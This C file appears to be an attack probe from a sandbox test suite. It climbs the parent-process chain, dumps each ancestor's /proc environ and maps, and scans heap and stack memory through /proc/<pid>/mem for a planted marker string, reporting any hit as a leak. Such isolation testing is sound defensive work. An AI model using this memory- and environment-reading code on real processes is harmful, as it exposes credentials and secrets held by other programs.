// Walks up its ancestors and looks into each: environment, maps, memory, descriptors, root.
#include <dirent.h>

#include "attack.h"

static void Print(const char* what, pid_t pid, char* data, ssize_t size) {
  for (ssize_t i = 0; i < size; ++i) {
    if (data[i] < 32 || data[i] > 126) data[i] = '\n';
  }
  Say("%s of %d: %zd bytes", what, pid, size);
  if (size > 0 && write(1, data, (size_t)size) < 0) _exit(1);
}

static char buffer[1 << 20];

static void Whole(const char* what, pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
  int fd = open(path, O_RDONLY);
  ssize_t size = fd < 0 ? -1 : read(fd, buffer, 32768);
  if (size < 0) {
    Say("%s of %d: errno %d", what, pid, errno);
  } else {
    Print(what, pid, buffer, size);
  }
  if (fd >= 0) close(fd);
}

// Prints only what lies around the telling word, from every writable mapping.
static void Memory(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE* maps = fopen(path, "r");
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDONLY);
  if (!maps || memory < 0) {
    Say("mem of %d: errno %d", pid, errno);
    if (maps) fclose(maps);
    if (memory >= 0) close(memory);
    return;
  }
  char line[512];
  while (fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    char rights[8];
    if (sscanf(line, "%lx-%lx %7s", &from, &to, rights) != 3 || rights[1] != 'w') continue;
    if (!strstr(line, "[heap]") && !strstr(line, "[stack]")) continue;
    for (unsigned long at = from; at < to && at < from + (8UL << 20); at += sizeof buffer) {
      size_t want = to - at < sizeof buffer ? to - at : sizeof buffer;
      ssize_t size = pread(memory, buffer, want, (off_t)at);
      for (ssize_t i = 0; i + 30 < size; ++i) {
        if (memcmp(buffer + i, "Marker", 6) == 0) Say("mem of %d: LEAK %.40s", pid, buffer + i);
      }
    }
  }
  fclose(maps);
  close(memory);
}

int main(int argc, char** argv) {
  pid_t last = argc > 1 ? atoi(argv[1]) : 1;
  pid_t pid = getppid();
  for (int level = 0; level < 12 && pid > 1 && pid != last; ++level) {
    Whole("environ", pid);
    Whole("maps", pid);
    Memory(pid);
    pid = ParentOf(pid, NULL);
  }
  Done();
  return 0;
}
